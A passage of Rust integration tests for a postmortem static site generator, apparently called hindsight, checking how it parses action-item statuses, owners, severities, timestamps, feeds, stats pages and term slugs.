    assert!(!o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("unknown-severity"), "{err}");
    assert!(err.contains("unknown severity `P1`"), "{err}");
    assert!(err.contains("content/a.md:5:11"), "{err}");
    assert!(err.contains("SEV1, SEV2, SEV3, SEV4"), "{err}");
    assert!(!site.out.exists());
    // Lowered to a warning, the build warns the same and publishes no `P1` level.
    std::fs::write(
        site.root.join("hindsight.toml"),
        "[check.rules]\nunknown-severity = \"warning\"\n",
    )
    .unwrap();
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
    let err = stderr(&o);
    assert!(err.contains("unknown severity `P1`"), "{err}");
    assert!(err.contains("content/a.md:5:11"), "{err}");
    assert!(!site.out.join("severity/p1").exists());
    assert!(site.out.join("severity/sev3/index.html").exists());
    let a = site.incident("A-1");
    assert!(a["severity"].is_null(), "{a}");
    let feed = site.page("feed.xml");
    assert!(!feed.contains("term=\"P1\""), "{feed}");
}

#[test]
fn an_action_item_whose_postmortem_records_no_status_is_said_to_have_none_not_to_be_open() {
    use serde_json::json;
    let site = Site::with(
        &[
            (
                "content/learnings/retry.md",
                "---\ntitle: Retry with backoff\n---\n\nRetries need backoff.\n",
            ),
            (
                "content/postmortems/pm-1.md",
                "---\nid: PM-1\ntitle: Outage one\ndate: 2024-01-10\nlearnings:\n  - id: retry\n    text: Retries made it worse.\n\
                 action_items:\n  - text: Add backoff to the client\n    owner: team-a\n    status: open\n\
                 \x20 - text: Cap the retries\n    owner: team-a\n    status: done\n\
                 \x20 - text: Page on retry storms\n    learning: retry\n---\n\nWhat happened.\n",
            ),
            // No front matter: a plain list item and a table row with an empty Status cell
            // record no status; an unchecked task records that it is open.
            (
                "content/postmortems/2024-02-01-queue-stalled.md",
                "# Queue stalled\n\n## Lessons learned\n\n- Queues need an age alert.\n\n\
                 ## Action items\n\n- Add an alert on queue age\n- [ ] Write the runbook\n\n\
                 | Action | Owner | Status |\n|---|---|---|\n| Drain the queue on deploy | ops | |\n",
            ),
        ],
    );
    site.build_ok();
    // The export says null, as for a missing owner or due date.
    let items = |id: &str| -> Vec<serde_json::Value> {
        site.incident(id)["action_items"]
            .as_array()
            .unwrap()
            .clone()
    };
    let statuses = |id: &str| -> Vec<serde_json::Value> {
        items(id).iter().map(|a| a["status"].clone()).collect()
    };
    assert_eq!(
        statuses("PM-1"),
        [json!("open"), json!("done"), json!(null)]
    );
    let page3 = &items("PM-1")[2];
    assert_eq!(
        (&page3["owner"], &page3["due"]),
        (&json!(null), &json!(null))
    );
    let derived = exported(&site.out, "id")
        .into_iter()
        .find(|id| id != "PM-1")
        .unwrap();
    assert_eq!(
        statuses(&derived),
        [json!(null), json!("open"), json!(null)]
    );
    // Its page says so, and never "Open".
    let page = site.page("incidents/PM-1/index.html");
    let actions = html_text(&page[page.find("id=\"actions-h\"").unwrap()..]);
    assert!(
        actions.contains("Status not recorded\n  Page on retry storms"),
        "{actions}"
    );
    assert_eq!(actions.matches("Open\n").count(), 1, "{actions}");
    // The action items page: open first, then those with no status, then done; with counts.
    let list = site.page("action-items/index.html");
    let at = |s: &str| list.find(s).unwrap_or_else(|| panic!("{s} in {list}"));
    assert!(at("id=\"st-open\"") < at("id=\"st-unrecorded\""));
    assert!(at("id=\"st-unrecorded\"") < at("id=\"st-done\""));
    assert!(
        list.contains(">Status not recorded <span class=\"count\">3</span>"),
        "{list}"
    );
    assert!(
        list.contains("<p>2 open, 3 with no status recorded, 1 done, 0 won't fix.</p>"),
        "{list}"
    );
    // The home page and the statistics count them apart from the open ones.
    let home = site.page("index.html");
    assert!(
        home.contains("<strong>2</strong> open action items<span class=\"visually-hidden\">,</span> <strong>3</strong> with no status recorded</a>"),
        "{home}"
    );
    let stats = site.page("stats/index.html");
    assert!(
        stats.contains(
            "<strong>2</strong> open action items<span class=\"visually-hidden\">,</span> <strong>3</strong> with no status recorded, 1 done, 0 won't fix"
        ),
        "{stats}"
    );
    // So does the learning's page (one incident cites it: the index lists it in one line).
    let learning = site.page("learnings/retry/index.html");
    assert!(
        learning.contains("<span class=\"status status-unrecorded\">Status not recorded</span>"),
        "{learning}"
    );
    assert!(!learning.contains(">Open<"), "{learning}");
}

#[test]
fn the_dfds_corpus_whose_action_items_record_no_status_has_no_open_action_item() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build_ok(&fixture("dfds"), &out);
    let incidents = read_json(&out.join("api/incidents.json"));
    let statuses: Vec<&serde_json::Value> = incidents
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|i| i["action_items"].as_array().unwrap())
        .map(|a| &a["status"])
        .collect();
    assert!(statuses.len() > 100, "{}", statuses.len());
    // One is marked "(done)"; none says it is open.
    assert_eq!(statuses.iter().filter(|s| **s == "done").count(), 1);
    assert!(statuses.iter().all(|s| s.is_null() || *s == "done"));
    let home = std::fs::read_to_string(out.join("index.html")).unwrap();
    assert!(
        home.contains(&format!(
            "<strong>0</strong> open action items<span class=\"visually-hidden\">,</span> <strong>{}</strong> with no status recorded",
            statuses.len() - 1
        )),
        "{home}"
    );
    let learnings = std::fs::read_to_string(out.join("learnings/index.html")).unwrap();
    assert!(!learnings.contains(" open</span>"), "{learnings}");
}

#[test]
fn a_check_mark_in_a_status_cell_marks_an_action_item_done() {
    use serde_json::json;
    let site = Site::with(
        &[(
            "content/postmortems/2024-02-01-queue-stalled.md",
            "# Queue stalled\n\n## Lessons learned\n\n- Queues need an age alert.\n\n\
             ## Action items\n\n| Action | Owner | Status |\n|---|---|---|\n\
             | One | ops | ✅ |\n| Two | ops | ✔️ |\n| Three | ops | ☑ |\n| Four | ops | [x] |\n\
             | Five | ops | ✓ Done |\n| Six | ops | TODO |\n| Seven | ops | ☐ |\n| Eight | ops | Blocked |\n\
             | Nine | ops | - |\n\n\
             ## Follow-ups\n\n| Action | Done |\n|---|---|\n| Ten | ✅ |\n| Eleven | |\n",
        )],
    );
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let got: Vec<(String, serde_json::Value)> = incidents[0]["action_items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["text"].as_str().unwrap().to_string(), a["status"].clone()))
        .collect();
    let want: Vec<(String, serde_json::Value)> = [
        ("One", json!("done")),
        ("Two", json!("done")),
        ("Three", json!("done")),
        ("Four", json!("done")),
        ("Five", json!("done")),
        ("Six", json!("open")),
        ("Seven", json!("open")),
        ("Eight", json!("open")),
        ("Nine", json!(null)),
        // A Done column is ticked like a task box: a blank is not done yet.
        ("Ten", json!("done")),
        ("Eleven", json!("open")),
    ]
    .into_iter()
    .map(|(t, s)| (t.to_string(), s))
    .collect();
    assert_eq!(got, want);
}

#[test]
fn an_owner_cell_drops_the_at_of_a_handle_as_the_end_of_a_list_item_does() {
    let site = Site::with(&[(
        "content/postmortems/2024-02-01-queue-stalled.md",
        "# Queue stalled\n\n## Lessons learned\n\n- Queues need an age alert.\n\n\
             ## Action items\n\n- Add an alert on queue age @alice\n\n\
             | Action | Owner |\n|---|---|\n| Write the runbook | @carol |\n\
             | Drain the queue | @bob, @dave |\n| Page the team | team@example.com |\n",
    )]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let owners: Vec<&str> = incidents[0]["action_items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["owner"].as_str().unwrap())
        .collect();
    assert_eq!(owners, ["alice", "carol", "bob, dave", "team@example.com"]);
    // One owner on the action items page, however it was written.
    let list = site.page("action-items/index.html");
    assert!(!list.contains(">@"), "{list}");
}

#[test]
fn a_front_matter_owner_written_as_a_handle_is_the_same_owner_as_a_body_row_that_writes_it() {
    let site = Site::with(&[
        (
            "content/postmortems/2024-02-01-queue-stalled.md",
            "---\ntitle: Queue stalled\naction_items:\n  - text: Add an alert on queue age\n    \
             owner: \"@sre\"\n  - text: Drain the queue\n    owner: \"@bob, @dave\"\n---\n\
             # Queue stalled\n\nThe queue stalled.\n",
        ),
        (
            "content/postmortems/2024-03-01-disk-full.md",
            "# Disk full\n\nThe disk filled up.\n\n## Action items\n\n\
             | Action | Owner |\n|---|---|\n| Grow the disk | @sre |\n",
        ),
    ]);
    site.build_ok();
    let owners = |id: &str| -> Vec<String> {
        site.incident(id)["action_items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["owner"].as_str().unwrap().to_string())
            .collect()
    };
    assert_eq!(owners("2024-02-01-queue-stalled"), ["sre", "bob, dave"]);
    assert_eq!(owners("2024-03-01-disk-full"), ["sre"]);
    // One group for sre on the action items page, not `@sre` and `sre`.
    let list = site.page("action-items/index.html");
    assert!(!list.contains(">@"), "{list}");
    assert_eq!(list.matches("id=\"unrecorded-sre\"").count(), 1, "{list}");
    assert!(!list.contains("unrecorded-sre-2"), "{list}");
}

#[test]
fn a_summary_derived_from_the_text_is_its_first_paragraph_of_prose_not_a_metadata_line() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("dfds");
    copy_tree(&fixture("dfds"), &root);
    write_files(
        &root,
        &[(
            "PM2024-009 - Cache outage.md",
            "# Cache outage\n\nDate: 2024-04-10\n\n**Severity:** SEV1\n\n\
             The cache cluster ran out of memory and every page was slow for an hour.\n\n\
             Lessons Learned:\n- Alert on cache memory before it is full\n",
        )],
    );
    let out = tmp.path().join("site");
    build_ok(&root, &out);
    let of = |id: &str| exported_incident(&out, id);
    assert_eq!(
        of("PM2024-009")["summary"],
        "The cache cluster ran out of memory and every page was slow for an hour."
    );
    assert_eq!(
        of("PM2024-009")["learnings"][0]["text"],
        "Alert on cache memory before it is full"
    );
    // Its Summary section opens with "**Traefik versions confirmed affected**: 1.7".
    assert!(
        of("PM2021-010")["summary"]
            .as_str()
            .unwrap()
            .starts_with("Ingress object pointing towards a Secret"),
        "{}",
        of("PM2021-010")["summary"]
    );
}

#[test]
fn a_postmortem_template_is_not_published_as_an_incident_when_no_config_ignores_it() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("dfds");
    copy_tree(&fixture("dfds"), &root);
    std::fs::remove_file(root.join("hindsight.toml")).unwrap();
    write_files(
        &root,
        &[
            (
                "2023-01-01-template-rendering-outage.md",
                "# Template rendering outage\n\nThe `{{ user }}` tag broke every page for an hour.\n",
            ),
            (
                "template-cache.md",
                "# Template cache outage\n\nOn 3 March 2023 the template cache served stale pages.\n",
            ),
        ],
    );
    let out = tmp.path().join("site");
    let o = build(&root, &out);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("postmortem-template"),
        "the build says why it is left out: {}",
        stderr(&o)
    );
    let titles = exported(&out, "title");
    assert!(!titles.iter().any(|t| t == "Incident Title"), "{titles:?}");
    assert!(titles.iter().any(|t| t == "Template rendering outage"));
    assert!(titles.iter().any(|t| t == "Template cache outage"));
    // The 39 DFDS postmortems and the two about templates.
    assert_eq!(titles.len(), 41, "{titles:?}");
}

#[test]
fn the_base_url_warning_points_at_no_line_that_did_not_give_the_value() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    // Line 1 is a comment: no place for a warning about a key the file does not set.
    small_site(
        &root,
        "# Our postmortems\ntitle = \"Postmortems\"\n\n[check]\nrequired = []\n",
    );
    let warning = |extra: &[&str]| {
        let o = bin()
            .args(["build", "--root"])
            .arg(&root)
            .arg("--out")
            .arg(tmp.path().join("public"))
            .args(extra)
            .env("NO_COLOR", "1")
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", stderr(&o));
        stderr(&o)
    };
    let err = warning(&[]);
    assert!(err.contains("`base_url` is not set"), "{err}");
    assert!(!err.contains("hindsight.toml:"), "{err}");
    assert!(err.contains("above any `[table]`"), "{err}");
    // Set in the file: at its line.
    std::fs::write(
        root.join("hindsight.toml"),
        "# Our postmortems\ntitle = \"Postmortems\"\nbase_url = \"/pm/\"\n",
    )
    .unwrap();
    let err = warning(&[]);
    assert!(err.contains("is the path `/pm/`"), "{err}");
    assert!(err.contains("hindsight.toml:3:1"), "{err}");
    // Given with --base-url: not at the line of the file's value, which it replaced.
    let err = warning(&["--base-url", "/sub/"]);
    assert!(err.contains("is the path `/sub/`"), "{err}");
    assert!(!err.contains("hindsight.toml:"), "{err}");
}

#[test]
fn the_stats_page_ranks_services_by_count_and_counts_learnings_seen_once_among_all() {
    let site = Site::with(
        &[
            (
                "content/learnings/own-what-you-run.md",
                "---\ntitle: Own what you run\n---\nEvery service has an owner.\n",
            ),
            (
                "content/a.md",
                "---\ndate: 2024-03-01\nservices: [alpha, zulu]\nlearnings:\n  - id: own-what-you-run\n    text: Nobody owned the job.\n  - Dashboards should show free inodes.\n---\n# Disk full\n\nText.\n",
            ),
            (
                "content/b.md",
                "---\ndate: 2024-04-01\nservices: [zulu]\nlearnings:\n  - id: own-what-you-run\n    text: Nobody owned the cron.\n  - Certificates renew themselves or page someone.\n---\n# Certificate expired\n\nText.\n",
            ),
        ],
    );
    site.build_ok();
    let page = site.page("stats/index.html");
    // zulu (2 incidents) before alpha (1), although alpha comes first by name.
    let services = &page[page.find("Services (top 15)").unwrap()..];
    assert!(
        services.find("services/zulu/").unwrap() < services.find("services/alpha/").unwrap(),
        "{services}"
    );
    // One learning recurs; the two stated once count too.
    assert!(
        page.contains("<strong>1</strong> of 3 learnings seen in two or more incidents"),
        "{page}"
    );
    assert!(
        page.contains("2 of them were seen in one incident only"),
        "{page}"
    );
}

#[test]
fn times_a_stats_section_states_count_when_the_front_matter_has_no_timestamps_and_show_their_source(
) {
    let stats = "## Stats\n\n- Category: Kubernetes\n- Time to detection: 7 hours\n- Time to recovery: 1h 30m [^1]\n\n[^1]: From the start.\n";
    let site = Site::with(
        &[
            (
                "content/a.md",
                &format!("---\ndate: 2024-03-01\n---\n# Disk full\n\nText.\n\n{stats}"),
            ),
            // Timestamps in front matter win over what the body states.
            (
                "content/b.md",
                &format!("---\ndate: 2023-03-01\nstarted_at: 2023-03-01T10:00:00Z\ndetected_at: 2023-03-01T10:20:00Z\nresolved_at: 2023-03-01T11:00:00Z\n---\n# Cert expired\n\nText.\n\n{stats}"),
            ),
            // Not in a Stats-like section, or not a plain duration: nothing is read.
            (
                "content/c.md",
                "---\ndate: 2022-03-01\n---\n# DNS\n\nTime to detection: 2 hours\n\n## Stats\n\n- Time to recovery: ?\n",
            ),
        ],
    );
    site.build_ok();
    let page = |id: &str| site.page(&format!("incidents/{id}/index.html"));
    let a = page("a");
    assert!(
        a.contains("<dt>Time to detect</dt><dd>7 h <span class=\"muted\">(as stated under <a href=\"#stats\">Stats</a>: “Time to detection: 7 hours”)</span></dd>"),
        "{a}"
    );
    assert!(a.contains("<dt>Time to resolve</dt><dd>1 h 30 min <span class=\"muted\">(as stated under <a href=\"#stats\">Stats</a>: “Time to recovery: 1h 30m”)"), "{a}");
    let b = page("b");
    assert!(b.contains("<dt>Time to detect</dt><dd>20 min</dd>"), "{b}");
    let c = page("c");
    assert!(
        !c.contains("<dt>Time to detect</dt>") && !c.contains("<dt>Time to resolve</dt>"),
        "{c}"
    );
    let stats = site.page("stats/index.html");
    assert!(
        stats.contains("<td>1</td><td>7 h <span class=\"muted\">(from 1 incident only)</span></td><td>1 h 30 min <span class=\"muted\">(from 1 incident only)</span></td>"),
        "{stats}"
    );
    assert!(
        stats.contains("<td>1</td><td>20 min <span class=\"muted\">(from 1 incident only)</span></td><td>1 h <span class=\"muted\">(from 1 incident only)</span></td>"),
        "{stats}"
    );
    assert!(stats.contains("<td>1</td><td>–</td><td>–</td>"), "{stats}");
}

#[test]
fn a_closing_h1_makes_the_dfds_body_headings_siblings_not_subsections_of_the_summary() {
    // PM2020-001 to PM2020-009 of the dfds corpus: `# Title`, `## Summary`, `## Timeline`,
    // ... `## Action Items`, then `# Stats`.
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("dfds");
    let name = "PM2020-001 - Inotify file watches exhaustion.md";
    for file in ["hindsight.toml", name] {
        std::fs::create_dir_all(&root).unwrap();
        std::fs::copy(fixture("dfds").join(file), root.join(file)).unwrap();
    }
    let out = tmp.path().join("site");
    build_ok(&root, &out);
    let page = std::fs::read_to_string(out.join("incidents/PM2020-001/index.html")).unwrap();
    let body = &page[page.find("class=\"prose postmortem\"").unwrap()..];
    let body = &body[..body.find("</article>").unwrap_or(body.len())];
    let outline: Vec<String> = body
        .split("<h")
        .skip(1)
        .filter(|h| h.starts_with(['2', '3', '4', '5', '6']))
        .map(|h| format!("h{}:{}", &h[..1], h.split('"').nth(1).unwrap()))
        .collect();
    // Every heading of the body is an H2, with the id it always had.
    let expected = [
        "h2:summary",
        "h2:timeline",
        "h2:contributing-factors",
        "h2:lessons-learned",
        "h2:action-items",
        "h2:stats",
    ];
    assert_eq!(&outline[..expected.len()], expected, "{body}");
    // The table of contents lists them all at one level.
    for id in ["summary", "timeline", "action-items", "stats"] {
        assert!(
            page.contains(&format!("<li class=\"toc-2\"><a href=\"#{id}\">")),
            "{id}: {page}"
        );
    }
    assert!(!page.contains("class=\"toc-3\""), "{page}");
}

#[test]
fn the_incident_page_names_its_times_as_the_stats_page_does_and_when_it_started_was_detected_and_resolved(
) {
    let site = Site::with(&[(
        "content/a.md",
        "---\ndate: 2024-03-01\nstarted_at: 2024-03-01T10:00:00Z\ndetected_at: 2024-03-01T10:20:00Z\nresolved_at: 2024-03-01T12:00:00Z\n---\n# Disk full\n\nText.\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/a/index.html");
    let detect = page.find("<dt>Time to detect</dt><dd>20 min</dd>");
    let resolve = page.find("<dt>Time to resolve</dt><dd>2 h</dd>");
    // In the order they happen, and under no other name for the same span.
    assert!(detect.is_some() && detect < resolve, "{page}");
    // Then the three times themselves, in the order they happen.
    let started = page.find("<dt>Started</dt><dd>2024-03-01 10:00 +00:00</dd>");
    let detected = page.find("<dt>Detected</dt><dd>2024-03-01 10:20 +00:00</dd>");
    let resolved = page.find("<dt>Resolved</dt><dd>2024-03-01 12:00 +00:00</dd>");
    assert!(
        resolve < started && started.is_some() && started < detected && detected < resolved,
        "{page}"
    );
    assert!(
        !page.contains("Duration") && !page.contains("recovery"),
        "{page}"
    );
    let stats = site.page("stats/index.html");
    assert!(
        stats.contains(">Median time to detect</th>")
            && stats.contains(">Median time to resolve</th>"),
        "{stats}"
    );
}

#[test]
fn an_undated_incident_is_left_out_of_the_feed_rather_than_dated_like_the_newest() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    write_files(
        &root,
        &[
            (
                "hindsight.toml",
                "title = \"T\"\nbase_url = \"https://example.org/\"\n",
            ),
            (
                "content/postmortems/new.md",
                "---\nid: NEW\ntitle: Newest outage\ndate: 2024-05-02\n---\n\nIt broke.\n",
            ),
            (
                "content/postmortems/old.md",
                "---\nid: OLD\ntitle: Older outage\ndate: 2023-01-09\n---\n\nIt broke.\n",
            ),
            (
                "content/postmortems/undated.md",
                "---\nid: UNDATED\ntitle: Undated outage\n---\n\nIt broke once.\n",
            ),
        ],
    );
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    let feed = std::fs::read_to_string(out.join("feed.xml")).unwrap();
    // The undated incident has a page, but no entry: no date would be honest for it.
    assert!(out.join("incidents/UNDATED/index.html").is_file());
    assert!(!feed.contains("Undated outage"), "{feed}");
    assert!(!feed.contains("incidents/UNDATED/"), "{feed}");
    // Each entry is dated by its incident, the feed by the newest of them.
    let updated: Vec<&str> = feed
        .split("<updated>")
        .skip(1)
        .map(|u| &u[..u.find('<').unwrap()])
        .collect();
    assert_eq!(
        updated,
        [
            "2024-05-02T00:00:00Z",
            "2024-05-02T00:00:00Z",
            "2023-01-09T00:00:00Z"
        ],
        "{feed}"
    );
    assert_eq!(feed.matches("<entry>").count(), 2, "{feed}");
}

#[test]
fn the_service_chips_of_a_card_read_apart_without_css() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("site");
    write_files(
        &root,
        &[(
            "content/postmortems/pay.md",
            "---\nid: PAY\ntitle: Payments down\ndate: 2024-03-01\n\
             services: [payments-api, checkout, web-shop]\n---\n\nIt broke.\n",
        )],
    );
    let out = tmp.path().join("public");
    build_ok(&root, &out);
    for page in [
        "index.html",
        "years/2024/index.html",
        "services/checkout/index.html",
    ] {
        let html = std::fs::read_to_string(out.join(page)).unwrap();
        let at = html.find("class=\"card-services\"").expect(page);
        let services = &html[at..at + html[at..].find("</p>").unwrap()];
        // Text mode, reader mode and screen readers read a list, not "payments-apicheckout";
        // the separators are hidden, so the chips look as they did.
        assert!(
            html_text(services).ends_with("Services: payments-api, checkout, web-shop"),
            "{page}: {services}"
        );
        assert!(
            services.contains("<span class=\"visually-hidden\">, </span>"),
            "{page}: {services}"
        );
    }
}

#[test]
fn an_incident_page_names_only_the_nearest_five_incidents_that_address_a_learning_by_an_action_item(
) {
    // Incident 3 states the learning; the eight others only file an action item for it.
    let site = retry_site(9, |k| k == 3);
    let page = site.text("incidents/PM-03/index.html");
    assert!(
        page.contains("Action items of PM-01 (2020): Outage 1; PM-02 (2020): Outage 2; PM-04 (2020): Outage 4; PM-05 (2020): Outage 5; PM-06 (2020): Outage 6 and 3 more incidents are meant to address it."),
        "{page}"
    );
}

/// A built site of postmortems PM-01 to PM-`n`, dated 2020-01-01 on, each linked to the
/// canonical learning `retry`: those for which `states` holds state it, the others only file
/// an action item meant to address it.
fn retry_site(n: u32, states: impl Fn(u32) -> bool) -> Site {
    let mut files: Vec<(String, String)> = vec![(
        "content/learnings/retry.md".into(),
        "---\ntitle: Retry with backoff\n---\n\nRetries need backoff.\n".into(),
    )];
    for k in 1..=n {
        let links = if states(k) {
            "learnings:\n  - id: retry\n    text: Retries without backoff made it worse.\n"
        } else {
            "action_items:\n  - text: Add backoff to the client\n    learning: retry\n"
        };
        files.push((
            format!("content/postmortems/pm-{k:02}.md"),
            format!("---\nid: PM-{k:02}\ntitle: Outage {k}\ndate: 2020-01-{k:02}\n{links}---\n\nBody {k}.\n"),
        ));
    }
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let site = Site::with(&files);
    site.build_ok();
    site
}

#[test]
fn a_learning_row_separates_its_notes_in_text_so_a_reader_without_styles_does_not_read_them_as_one()
{
    // Without the stylesheet (a text browser, a screen reader, a copy and paste) the notes of a
    // row ran on: "last seen 2020-01-03 learned in 2, 1 only through an action item 1 action
    // item with no status recorded". A visually hidden ";" parts them, as on the home page.
    let site = retry_site(3, |k| k != 2);
    for page in ["index.html", "learnings/index.html"] {
        let text = site.text(page);
        assert!(
            text.contains("First seen 2020-01-01, last seen 2020-01-03; learned in 2, 1 only through an action item; 1 action item with no status recorded"),
            "{page}: {text}"
        );
    }
    let html = site.page("learnings/index.html");
    assert!(
        html.contains("2020-01-03</time><span class=\"visually-hidden\">;</span> <span class=\"actions-note\">learned in 2"),
        "{html}"
    );
}

#[test]
fn the_dfds_postmortem_whose_timeline_opens_with_a_precursor_is_dated_by_the_monday_its_summary_names(
) {
    // PM2022-009 has no date in its file name and no front matter. Its timeline opens with the
    // AMI release on Saturday 2022-10-29; the summary says "On Monday our daily-rollover
    // process spawned new nodes", and the timeline's Monday is 2022-10-31.
    let site = Site::fixture("dfds");
    site.build_ok();
    let entry = site.incident("PM2022-009");
    assert_eq!(entry["date"], "2022-10-31");
}

#[test]
fn a_second_action_items_table_exports_its_rows_and_not_its_header_row() {
    let site = Site::with(&[(
        "content/2024-03-01-lb-outage.md",
        "# Load balancer outage\n\n## Action items\n\n\
         | Action | Owner | Status |\n|---|---|---|\n\
         | Fix the load balancer health check | team-net | Done |\n\n\
         | Action | Owner | Status |\n|---|---|---|\n\
         | Add an alert on 5xx rates | team-obs | Open |\n",
    )]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let items: Vec<(&str, &str, &str)> = incidents[0]["action_items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            let s = |k: &str| a[k].as_str().unwrap();
            (s("text"), s("owner"), s("status"))
        })
        .collect();
    assert_eq!(
        items,
        [
            ("Fix the load balancer health check", "team-net", "done"),
            ("Add an alert on 5xx rates", "team-obs", "open"),
        ]
    );
    let list = site.text("action-items/index.html");
    assert!(!list.contains("Owner: Owner"), "{list}");
    assert!(list.contains("1 open, 1 done, 0 won't fix."), "{list}");
}

#[test]
fn sub_tasks_nested_in_an_action_item_are_exported_and_listed_each_with_its_own_status() {
    let site = Site::with(&[(
        "content/2020-03-01-coredns-upgrade.md",
        "# CoreDNS upgrade issue\n\n## Action items\n\n\
         - CoreDNS upgrade process\n  \
           - Write an upgrade runbook (owner: team-dns)\n  \
           - Add a staging soak test (done)\n",
    )]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    assert_eq!(
        incidents[0]["action_items"],
        serde_json::json!([
            {"text": "CoreDNS upgrade process: Write an upgrade runbook", "owner": "team-dns",
             "status": null, "due": null, "ticket": null, "learning": null, "linked_by": null},
            {"text": "CoreDNS upgrade process: Add a staging soak test", "owner": null,
             "status": "done", "due": null, "ticket": null, "learning": null, "linked_by": null},
        ])
    );
    let list = site.text("action-items/index.html");
    assert!(
        list.contains("1 with no status recorded, 1 done, 0 won't fix."),
        "{list}"
    );
}

#[test]
fn started_at_dates_an_incident_on_its_page_and_in_the_export_feed_and_sitemap_not_a_due_date() {
    let site = Site::with(&[
        (
            "hindsight.toml",
            "title = \"T\"\nbase_url = \"https://example.org/\"\n",
        ),
        (
            "content/INC-0106 - Logs not shipped.md",
            "---\nstarted_at: 2023-02-01T10:00:00Z\nresolved_at: 2023-02-02T10:00:00Z\n---\n\
             # Logs not shipped\n\n## Summary\n\nLogs went missing.\n\n## Action items\n\n\
             - Add a CloudWatch alarm on ingestion volume (@dave, due 2023-03-01)\n",
        ),
    ]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    assert_eq!(incidents[0]["date"], "2023-02-01");
    let page = site.text("incidents/INC-0106/index.html");
    // The date beside the start, as the metadata panel writes them.
    assert!(
        page.contains("Date2023-02-01 · 2023 Time to resolve1 d Started2023-02-01 10:00"),
        "{page}"
    );
    let feed = site.page("feed.xml");
    assert!(
        feed.contains("<updated>2023-02-01T00:00:00Z</updated>"),
        "{feed}"
    );
    let sitemap = site.page("sitemap.xml");
    assert!(
        sitemap.contains("incidents/INC-0106/</loc><lastmod>2023-02-01</lastmod>"),
        "{sitemap}"
    );
}

#[test]
fn names_that_differ_in_more_than_case_or_punctuation_stay_apart_even_when_their_slugs_would_meet()
{
    // Oldest first: a uses 🔥, C++ and C# before b and c use fire, c-plus-plus and c, which
    // take the next free slug.
    let post = |n: u32, services: &str, tags: &str| {
        format!("---\ndate: 2024-03-0{n}\nservices: {services}\ntags: {tags}\n---\n# Outage {n}\n\nText.\n")
    };
    let site = Site::with(&[
        ("content/a.md", &post(1, r#"[C++, "C#"]"#, "[🔥, On call]")),
        (
            "content/b.md",
            &post(2, "[c-plus-plus, c]", "[fire, on_call]"),
        ),
        ("content/c.md", &post(3, "[C]", "[Fire, ✈]")),
    ]);
    site.build_ok();
    let slugs = |kind: &str| {
        let mut v: Vec<String> = std::fs::read_dir(site.out.join(kind))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n != "index.html")
            .collect();
        v.sort();
        v
    };
    assert_eq!(slugs("tags"), ["airplane", "fire", "fire-2", "on-call"]);
    assert_eq!(
        slugs("services"),
        ["c", "c-plus-plus", "c-plus-plus-2", "c-sharp"]
    );
    // Each term page is named by its own term and lists its own incidents.
    let term = |path: &str, title: &str, ids: &[&str]| {
        let page = site.page(&format!("{path}/index.html"));
        assert!(page.contains(&format!("<title>{title}")), "{path}: {page}");
        for id in ["a", "b", "c"] {
            let listed = page.contains(&format!("incidents/{id}/"));
            assert_eq!(listed, ids.contains(&id), "{path} lists {id}: {page}");
        }
    };
    term("tags/fire", "Tag: 🔥", &["a"]);
    term("tags/fire-2", "Tag: Fire", &["b", "c"]);
    term("tags/on-call", "Tag: on_call", &["a", "b"]);
    term("tags/airplane", "Tag: ✈", &["c"]);
    term("services/c-plus-plus", "Service: C++", &["a"]);
    term("services/c-plus-plus-2", "Service: c-plus-plus", &["b"]);
    term("services/c-sharp", "Service: C#", &["a"]);
    term("services/c", "Service: C", &["b", "c"]);
    // An incident links each of its terms to that term's page, and shows the term's name.
    let a = site.page("incidents/a/index.html");
    for link in [
        "tags/fire/\">🔥",
        "services/c-plus-plus/\">C++",
        "services/c-sharp/\">C#",
    ] {
        assert!(a.contains(link), "{link}: {a}");
    }
    let b = site.page("incidents/b/index.html");
    for link in [
        "tags/fire-2/\">Fire",
        "tags/on-call/\">on_call",
        "services/c-plus-plus-2/\">c-plus-plus",
        "services/c/\">C",
    ] {
        assert!(b.contains(link), "{link}: {b}");
    }
}

#[test]
fn a_postmortem_newer_than_all_others_never_moves_the_page_of_an_existing_term() {
    let post = |n: u32, tags: &str| {
        format!("---\ndate: 2024-03-0{n}\ntags: {tags}\n---\n# Outage {n}\n\nText.\n")
    };
    let (a, b, c) = (post(1, "[🔥]"), post(2, "[fire]"), post(3, "[fire 2, 🔥]"));
    let before = Site::with(&[("content/a.md", &a), ("content/b.md", &b)]);
    before.build_ok();
    assert!(before
        .page("tags/fire-2/index.html")
        .contains("<title>Tag: fire"));
    // c's `fire 2` would be spelled fire-2 too, which the older `fire` has.
    let after = Site::with(&[
        ("content/a.md", &a),
        ("content/b.md", &b),
        ("content/c.md", &c),
    ]);
    after.build_ok();
    for (path, title) in [
        ("tags/fire", "Tag: 🔥"),
        ("tags/fire-2", "Tag: fire"),
        ("tags/fire-2-2", "Tag: fire 2"),
    ] {
        let page = after.page(&format!("{path}/index.html"));
